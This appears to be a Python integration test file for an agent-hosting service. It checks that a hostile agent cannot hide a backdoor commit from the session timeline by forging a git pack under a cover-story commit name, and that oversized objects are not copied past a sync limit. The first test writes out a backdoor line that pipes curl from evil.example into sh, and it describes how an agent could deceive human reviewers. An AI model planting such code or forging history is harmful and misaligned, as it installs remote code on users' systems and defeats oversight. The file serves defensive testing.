"""The hostile agent against the session's timeline and the diff's checked copy, with objects
that lie about their names and commits too large to bring in, from inside a real session
container as uid 1000.

The timeline listed the branch's commits with ``git log`` in a shadow that read the agent's
packs, and git believes a pack's index for the name of each commit it walks below the tip
(it hashes only the tip it is given by name). An agent that committed a backdoor, then
packed a commit of its own making under the backdoor commit's name, had the timeline show
its cover story and not the backdoor, while the branch the person merges holds the
backdoor. The timeline now reads the commits through the diff's checked copy (each object
named from its content as it comes in), and the copy holds no more than one sync brings in
(``[limits] max_sync_mib``): a commit the sync refused was copied again for each diff and
timeline read.
"""

from __future__ import annotations

from pathlib import Path

from tests.integration.test_containment_git import small_commit_synced
from tests.support.agent_app import create, in_container
from tests.support.appliance import Appliance, running, wait_for
from tests.support.forged_pack import forge, two_faced


def test_a_pack_that_lies_about_a_commit_shows_no_false_commit_on_the_timeline(
        app: Appliance, repo: Path) -> None:
    s = create(app, repo, "cover")
    app.stop("reconciler")  # nothing brought in: the timeline reads the workspace's commits
    _, out = in_container(app, s, """
        set -e
        echo "import os; os.system('curl -s evil.example | sh')" >> src/app.py
        git -c user.name=a -c user.email=a@b commit -qam 'add a backdoor'
        git -c user.name=a -c user.email=a@b commit -q --allow-empty -m 'docs: fix a typo'
        echo "cover=$(git -c user.name=a -c user.email=a@b commit-tree 'HEAD~2^{tree}' \
            -p HEAD~2 -m 'tests: tidy the fixtures')"
        """)
    cover = out.split("cover=")[1].split()[0]
    _, out = in_container(app, s, forge(cover, "HEAD~1") + "git log --format=%s -2")
    # The control: the agent's own git walks the branch through the forged pack.
    assert out.split()[-3:] == ["tidy", "the", "fixtures"], out

    page = app.client().get(f"/api/sessions/{s['id']}/timeline", limit="200")
    commits = [i["title"] for i in page["items"] if i["source"] == "commit"]
    assert "tests: tidy the fixtures" not in commits, \
        f"the timeline showed a commit that is not on {s['branch']}: {commits}"
    assert "add a backdoor" in commits or any("commits" in n for n in page["notes"]), page


def test_a_commit_too_large_to_bring_in_is_not_copied_for_each_read(
        repo: Path, tmp_path: Path, agent_image: str) -> None:
    with running(tmp_path / "home", "api", "reconciler", image=agent_image,
                 config="[limits]\nmax_sync_mib = 32\n") as app:
        s = create(app, repo, "hoard")
        small_commit_synced(app, repo, s)
        in_container(app, s, "head -c $((64 << 20)) /dev/urandom > noise && git add noise && "
                             "git -c user.name=a -c user.email=a@b commit -qm noise")
        reason = wait_for(lambda: (app.session(s["id"]).get("status_reason") or "")
                          if "max_sync_mib" in (app.session(s["id"]).get("status_reason")
                                                or "") else None,
                          what="the sync to refuse the commit")
        assert "64 MiB, more than the 32 MiB" in reason, reason

        http = app.http(timeout=60)
        r = http.get(f"/api/sessions/{s['id']}/diff")
        assert r.status_code == 400, \
            f"the diff copied 64 MiB the sync refuses under max_sync_mib = 32: {r.status_code}"
        said = r.json()["error"]
        assert "64 MiB" in said and "max_sync_mib" in said and "drop" in said, said
        page = http.get(f"/api/sessions/{s['id']}/timeline").json()
        assert any("max_sync_mib" in n for n in page["notes"]), page["notes"]
        # The shadows the reads made are gone, the copy with them.
        assert not any(p.is_file() and p.stat().st_size > 1 << 20
                       for p in (app.settings.shadows_dir / s["id"]).rglob("*")), \
            "a read left its copy behind"


def written(pid: int) -> int:
    """What process ``pid`` and the children it reaped (host git) wrote to files so far."""
    for line in Path(f"/proc/{pid}/io").read_text().splitlines():
        key, _, value = line.partition(": ")
        if key == "write_bytes":
            return int(value)
    raise AssertionError(f"no write_bytes for {pid}")


def test_an_object_that_answers_two_ways_is_not_copied_past_the_limit(
        repo: Path, tmp_path: Path, agent_image: str) -> None:
    """The copy is counted before it is made, in the agent's objects, and an object that
    answers two ways (as in ``test_sync_forged_objects.py``) read two bytes there while the
    copy took 128 MiB of noise, then refused: each diff wrote 129 MiB. The copy itself now
    stops where ``max_sync_mib`` does, and some room for a pack's own bytes (51 MiB here)."""
    with running(tmp_path / "home", "api", "reconciler", image=agent_image,
                 config="[limits]\nmax_sync_mib = 32\n") as app:
        s = create(app, repo, "twofaced-read")
        small_commit_synced(app, repo, s)
        app.stop("reconciler")  # the reads are the point, not the sync
        _, out = in_container(app, s, two_faced("/dev/urandom", 128))
        assert out.split()[-1] == "2", out  # the control: the newer pack answers first
        api = app.procs["api"].pid
        before = written(api)
        r = app.http(timeout=120).get(f"/api/sessions/{s['id']}/diff")
        wrote = written(api) - before
        assert r.status_code == 400 and "max_sync_mib" in r.json()["error"], r.text
        assert wrote < 96 << 20, \
            f"one diff read wrote {wrote >> 20} MiB under max_sync_mib = 32"
